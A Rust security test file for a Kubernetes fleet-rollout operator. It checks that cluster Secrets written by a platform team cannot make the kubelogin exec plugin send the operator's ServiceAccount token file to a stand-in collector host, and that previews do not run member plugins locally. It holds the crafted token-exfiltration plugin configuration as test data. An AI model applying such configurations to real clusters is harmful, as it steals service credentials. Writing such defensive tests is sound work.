//! Attacks through member Secrets, by a platform team (the chart's fleet-admin role and `edit` in the fleet
//! namespace, so it may write Secrets there): an allowed exec plugin asked to send the operator's
//! ServiceAccount token to an endpoint of the writer's choosing, by arguments and by variables; and a
//! plugin run on the machine of whoever previews a rollout. A stand-in for kubelogin on the PATH records
//! every run, so a plugin that ran is seen whatever it was asked.

use std::path::{Path, PathBuf};

use testkit::cli::kubectl_with_path;

use super::*;

/// How long an operator gets to run the allowed plugin.
const VERDICT: Duration = Duration::from_secs(120);
const TOKEN_FILE: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
const COLLECTOR: &str = "https://collector.example/";

/// A fleet namespace of its own, its platform team, the team's three member Secrets (the allowed one,
/// `ok-tenant`; the token file and collector asked by arguments, `args-tenant`, and by variables,
/// `env-tenant`), each for a server nothing listens on; and the stand-in's directory.
async fn exec_fleet(env: &Env, prefix: &str) -> (String, Tenant, PathBuf) {
    let ns = env.scratch_namespace(prefix, &[]).await;
    let grants = [Grant::cluster_role(FLEET_ADMIN_ROLE), Grant::cluster_role("edit")];
    let platform = Tenant::create(&env.admin, &ns, "platform", &grants).await;
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join(format!("target/test-bin/{ns}"));
    std::fs::create_dir_all(&dir).unwrap();
    let script = "#!/bin/sh\necho \"$* file=${AZURE_FEDERATED_TOKEN_FILE:-} host=${AZURE_AUTHORITY_HOST:-}\" \
                  >> \"$(dirname \"$0\")/ran\"\nexit 1\n";
    std::fs::write(dir.join("kubelogin"), script).unwrap();
    std::fs::set_permissions(dir.join("kubelogin"), std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    let login =
        ["get-token", "--login", "workloadidentity", "--server-id", "6dae42f8-4368-4678-94ff-3960e28e3630"];
    let by_args = ["--federated-token-file", TOKEN_FILE, "--authority-host", COLLECTOR, "-t", "args-tenant"];
    let sent = json!({"AZURE_FEDERATED_TOKEN_FILE": TOKEN_FILE, "AZURE_AUTHORITY_HOST": COLLECTOR});
    // Three servers (nothing listens on any): one API server under two names would block the plan.
    for (name, args, vars, port) in [
        ("exec-ok", [&login[..], &["-t", "ok-tenant"]].concat(), json!({}), 1),
        ("exec-args", [&login[..], &by_args].concat(), json!({}), 2),
        ("exec-env", [&login[..], &["-t", "env-tenant"]].concat(), sent.clone(), 3),
    ] {
        let config = json!({"execProviderConfig": {"command": "kubelogin", "args": args, "env": vars,
            "apiVersion": "client.authentication.k8s.io/v1beta1"}});
        let secret = json!({"apiVersion": "v1", "kind": "Secret",
            "metadata": {"name": name, "namespace": ns,
                "labels": {"argocd.argoproj.io/secret-type": "cluster", "exec-test": name}},
            "stringData": {"name": name, "server": format!("https://127.0.0.1:{port}"), "config": config.to_string()}});
        platform.kubectl(&["create", "-f", &file(&format!("{ns}-{name}"), &secret)]).await.ok();
    }
    (ns, platform, dir)
}

/// Each run of the stand-in, as recorded.
fn runs(dir: &Path) -> Vec<String> {
    std::fs::read_to_string(dir.join("ran")).unwrap_or_default().lines().map(str::to_string).collect()
}

fn across_members() -> Value {
    json!({"image": "registry.k8s.io/pause:3.9",
        "targets": {"kind": "Deployment", "selector": {"matchLabels": {"fleet": "web"}},
            "namespaceSelector": {"matchLabels": {"team": "web"}},
            "clusters": {"selector": {"matchExpressions": [{"key": "exec-test", "operator": "Exists"}]}}},
        "health": {"timeout": "15s"}})
}

pub(super) async fn fleet_admin_has_an_exec_plugin_send_the_operators_token_elsewhere(
    env: &'static Env,
) -> Row {
    let (ns, platform, dir) = exec_fleet(env, "sec-exec").await;
    let path = format!("{}:{}", dir.display(), std::env::var("PATH").unwrap_or_default());
    let mut op = Operator::start(&ns, &[], &[("PATH", &path)]);
    create_as(&platform, &ns, "across", across_members()).await.ok();
    // Each listing judges all three Secrets at once: once the allowed plugin ran, the others were judged.
    let allowed_ran = || async { runs(&dir).iter().any(|r| r.contains("ok-tenant")) };
    testkit::poll_until("the allowed plugin to run", VERDICT, allowed_ran).await;
    let ran = runs(&dir);
    let count = |tenant: &str| ran.iter().filter(|r| r.contains(tenant)).count();
    let (allowed, by_args, by_env) = (count("ok-tenant"), count("args-tenant"), count("env-tenant"));
    let sent = ran.iter().any(|r| r.contains(TOKEN_FILE) || r.contains("collector"));
    let alive = crate::operator::serving(&mut op).await;
    let _ = std::fs::remove_dir_all(&dir);
    Row {
        attack: "writes member Secrets whose allowed kubelogin is asked to send the operator's ServiceAccount token \
                 file to a collector: by arguments, and by variables"
            .into(),
        who: who(&platform, "fleet-admin + edit in fleet"),
        expected: "both Secrets refused and their plugin never run; the allowed Secret's plugin runs".into(),
        outcome: format!(
            "runs: allowed {allowed}, by arguments {by_args}, by variables {by_env}; token file or collector \
             given to a run: {sent}; operator serving: {alive}"
        ),
        contained: allowed > 0 && by_args == 0 && by_env == 0 && !sent && alive,
    }
}

pub(super) async fn member_secret_runs_its_plugin_on_the_previewers_machine(env: &'static Env) -> Row {
    let (ns, platform, dir) = exec_fleet(env, "sec-exec-plan").await;
    let fr = json!({"apiVersion": "fleetroll.dev/v1alpha1", "kind": "FleetRollout",
        "metadata": {"name": "across", "namespace": ns}, "spec": across_members()});
    let manifest = file(&format!("{ns}-preview"), &fr);
    let args = ["fleetroll", "plan", "-f", &manifest, "--fleet-namespace", &ns];
    let ran = kubectl_with_path(&dir, Some(&platform.kubeconfig), &args).await;
    let said = format!("{}{}", ran.stdout, ran.stderr);
    let noted = said.contains("\"exec-ok\" is not run by kubectl fleetroll plan");
    let runs = runs(&dir).len();
    let _ = std::fs::remove_dir_all(&dir);
    Row {
        attack: "has `kubectl fleetroll plan` run its member Secret's exec plugin on the previewer's machine"
            .into(),
        who: who(&platform, "fleet-admin + edit in fleet"),
        expected: "no plugin runs on the previewer's machine unless asked; the member is left out, said so"
            .into(),
        outcome: format!("plugin runs: {runs}; the preview says the member is left out: {noted}"),
        contained: runs == 0 && noted,
    }
}
